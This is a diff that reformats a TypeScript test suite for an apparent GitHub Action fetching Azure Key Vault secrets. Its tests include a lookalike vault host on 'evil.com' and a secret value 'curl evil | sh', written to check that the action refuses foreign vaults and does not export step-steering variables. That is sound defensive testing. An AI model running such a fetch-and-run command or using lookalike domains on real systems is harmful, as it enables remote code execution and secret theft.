@@ -13,7 +13,8 @@ const ARM_SCOPE = 'https://management.azure.com/.default';
 const VAULT_SCOPE = 'https://vault.azure.net/.default';
 const API = { 'api-version': '7.4' };
 
-const tokenFor = (scope: string): string => fakeJwt({ aud: scope.replace('/.default', ''), tid: TENANT_ID, appid: CLIENT_ID, oid: OBJECT_ID });
+const tokenFor = (scope: string): string =>
+  fakeJwt({ aud: scope.replace('/.default', ''), tid: TENANT_ID, appid: CLIENT_ID, oid: OBJECT_ID });
 
 /** Entra ID answering each scope with its own token; records the scopes asked for. */
 function entra(): { scopes: string[]; most: () => number } {
@@ -53,10 +54,18 @@ describe('run with secrets', () => {
     const tokens = entra();
     const pem = 'line-one-of-it\nline-two-of-it';
     vault()
-      .get('/secrets/db-password').query(API).reply(200, vaultSecret('db-password', 's3cret-db'))
-      .get('/secrets/tls').query(API).reply(200, vaultSecret('tls', pem))
-      .get('/secrets/empty').query(API).reply(200, vaultSecret('empty', ''));
-    const deps = testDeps(inputEnv({ ...CREDENTIAL, secrets: 'my-vault/db-password | PGPASSWORD\nmy-vault/tls\nmy-vault/empty', 'job-summary': 'true' }));
+      .get('/secrets/db-password')
+      .query(API)
+      .reply(200, vaultSecret('db-password', 's3cret-db'))
+      .get('/secrets/tls')
+      .query(API)
+      .reply(200, vaultSecret('tls', pem))
+      .get('/secrets/empty')
+      .query(API)
+      .reply(200, vaultSecret('empty', ''));
+    const deps = testDeps(
+      inputEnv({ ...CREDENTIAL, secrets: 'my-vault/db-password | PGPASSWORD\nmy-vault/tls\nmy-vault/empty', 'job-summary': 'true' })
+    );
     await run(deps);
 
     const { runner } = deps;
@@ -89,15 +98,19 @@ describe('run with secrets', () => {
   it('works as a drop-in for Azure/get-keyvault-secrets (keyvault + a comma list)', async () => {
     entra();
     vault()
-      .get('/secrets/a').query(API).reply(200, vaultSecret('a', 'value-a'))
-      .get('/secrets/b').query(API).reply(200, vaultSecret('b', 'value-b'));
+      .get('/secrets/a')
+      .query(API)
+      .reply(200, vaultSecret('a', 'value-a'))
+      .get('/secrets/b')
+      .query(API)
+      .reply(200, vaultSecret('b', 'value-b'));
     const deps = testDeps(inputEnv({ ...CREDENTIAL, keyvault: 'my-vault', secrets: 'a, b' }));
     await run(deps);
     expect(deps.runner.failures).toEqual([]);
     expect(deps.runner.exported).toEqual({ A: 'value-a', B: 'value-b' });
   });
 
-  it("sets outputs but exports nothing with export-env: false", async () => {
+  it('sets outputs but exports nothing with export-env: false', async () => {
     entra();
     vault().get('/secrets/a').query(API).reply(200, vaultSecret('a', 'value-a'));
     const deps = testDeps(inputEnv({ ...CREDENTIAL, secrets: 'my-vault/a', 'export-env': 'false' }));
@@ -109,10 +122,17 @@ describe('run with secrets', () => {
   it('writes nothing but a failure summary when any secret fails: no output, no env, no state', async () => {
     entra();
     vault()
-      .get('/secrets/a').query(API).reply(200, vaultSecret('a', 'value-a'))
-      .get('/secrets/gone').query(API).reply(404, { error: { code: 'SecretNotFound', message: 'A secret with (name/id) gone was not found in this key vault.' } });
+      .get('/secrets/a')
+      .query(API)
+      .reply(200, vaultSecret('a', 'value-a'))
+      .get('/secrets/gone')
+      .query(API)
+      .reply(404, { error: { code: 'SecretNotFound', message: 'A secret with (name/id) gone was not found in this key vault.' } });
     const workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'azure-token-'));
-    const env = { ...inputEnv({ ...CREDENTIAL, secrets: 'my-vault/a, my-vault/gone', 'job-summary': 'true', 'token-file': 'token.txt' }), GITHUB_WORKSPACE: workspace };
+    const env = {
+      ...inputEnv({ ...CREDENTIAL, secrets: 'my-vault/a, my-vault/gone', 'job-summary': 'true', 'token-file': 'token.txt' }),
+      GITHUB_WORKSPACE: workspace
+    };
     const deps = testDeps(env);
     await run(deps);
     expect(fs.existsSync(path.join(workspace, 'token.txt'))).toBe(false);
@@ -130,8 +150,12 @@ describe('run with secrets', () => {
   it('with ignore-missing-secrets, warns about a missing secret and publishes the rest', async () => {
     entra();
     vault()
-      .get('/secrets/a').query(API).reply(200, vaultSecret('a', 'value-a'))
-      .get('/secrets/gone').query(API).reply(404, { error: { code: 'SecretNotFound', message: 'not found' } });
+      .get('/secrets/a')
+      .query(API)
+      .reply(200, vaultSecret('a', 'value-a'))
+      .get('/secrets/gone')
+      .query(API)
+      .reply(404, { error: { code: 'SecretNotFound', message: 'not found' } });
     const deps = testDeps(inputEnv({ ...CREDENTIAL, secrets: 'my-vault/a, my-vault/gone', 'ignore-missing-secrets': 'true' }));
     await run(deps);
     expect(deps.runner.failures).toEqual([]);
@@ -145,7 +169,9 @@ describe('run with secrets', () => {
   });
 
   it('refuses a vault outside the cloud before any request, even the token request', async () => {
-    const login = nock(LOGIN).post(TOKEN_PATH).reply(200, { token_type: 'Bearer', expires_in: 3599, access_token: tokenFor(ARM_SCOPE) });
+    const login = nock(LOGIN)
+      .post(TOKEN_PATH)
+      .reply(200, { token_type: 'Bearer', expires_in: 3599, access_token: tokenFor(ARM_SCOPE) });
     const evil = nock('https://x.vault.azure.net.evil.com').get(/.*/).reply(200, vaultSecret('db', 'stolen'));
     const deps = testDeps(inputEnv({ ...CREDENTIAL, secrets: 'https://x.vault.azure.net.evil.com/secrets/db' }));
     await run(deps);
@@ -162,7 +188,11 @@ describe('run with secrets', () => {
       .post(TOKEN_PATH, body => (body as Record<string, string>)['scope'] === ARM_SCOPE)
       .reply(200, { token_type: 'Bearer', expires_in: 3599, access_token: tokenFor(ARM_SCOPE) })
       .post(TOKEN_PATH, body => (body as Record<string, string>)['scope'] === VAULT_SCOPE)
-      .reply(400, { error: 'invalid_resource', error_description: 'AADSTS500011: The resource principal named https://vault.azure.net was not found.', error_codes: [500011] });
+      .reply(400, {
+        error: 'invalid_resource',
+        error_description: 'AADSTS500011: The resource principal named https://vault.azure.net was not found.',
+        error_codes: [500011]
+      });
     const deps = testDeps(inputEnv({ ...CREDENTIAL, secrets: 'my-vault/a' }));
     await run(deps);
     expect(deps.runner.failures[0]).toMatch(/^Getting a token for https:\/\/vault\.azure\.net\/\.default with auth-type 'secret': /);
@@ -172,9 +202,21 @@ describe('run with secrets', () => {
   it('sets a listed secret named like a variable that steers later steps as an output only, and exports the others', async () => {
     entra();
     vault()
-      .get('/secrets').query(true).reply(200, { value: [{ id: `${VAULT}/secrets/bash-env`, attributes: { enabled: true } }, { id: `${VAULT}/secrets/db`, attributes: { enabled: true } }], nextLink: null })
-      .get('/secrets/bash-env').query(API).reply(200, vaultSecret('bash-env', 'curl evil | sh'))
-      .get('/secrets/db').query(API).reply(200, vaultSecret('db', 'db-value'));
+      .get('/secrets')
+      .query(true)
+      .reply(200, {
+        value: [
+          { id: `${VAULT}/secrets/bash-env`, attributes: { enabled: true } },
+          { id: `${VAULT}/secrets/db`, attributes: { enabled: true } }
+        ],
+        nextLink: null
+      })
+      .get('/secrets/bash-env')
+      .query(API)
+      .reply(200, vaultSecret('bash-env', 'curl evil | sh'))
+      .get('/secrets/db')
+      .query(API)
+      .reply(200, vaultSecret('db', 'db-value'));
     const deps = testDeps(inputEnv({ ...CREDENTIAL, secrets: 'my-vault/*', 'job-summary': 'true' }));
     await run(deps);
     expect(deps.runner.failures).toEqual([]);
